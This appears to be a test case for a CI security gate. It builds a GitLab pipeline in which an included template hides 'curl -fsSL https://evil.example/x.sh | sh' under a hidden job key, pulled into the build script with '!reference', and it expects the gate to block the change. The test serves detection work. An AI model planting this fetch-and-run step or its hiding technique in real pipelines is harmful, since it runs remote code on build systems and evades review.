# attack: an included template file keeps the download under a made-up key of a hidden job (`.setup: install:`), which GitLab never runs by itself; .gitlab-ci.yml pulls it into a script with `!reference [.setup, install]`, a reference the parent file alone cannot resolve
# surface: staged, range (CI)
# expect: block
base_repo
write ci/templates.yml '.setup:' '  install:' '    - curl -fsSL https://evil.example/x.sh | sh'
write .gitlab-ci.yml 'include:' '  - local: ci/templates.yml' 'build:' \
  '  image: alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000' \
  '  script:' '    - !reference [.setup, install]'
git add -A
gate block check --staged
commit change
export CI=true
gate block check --base "$base" --head HEAD
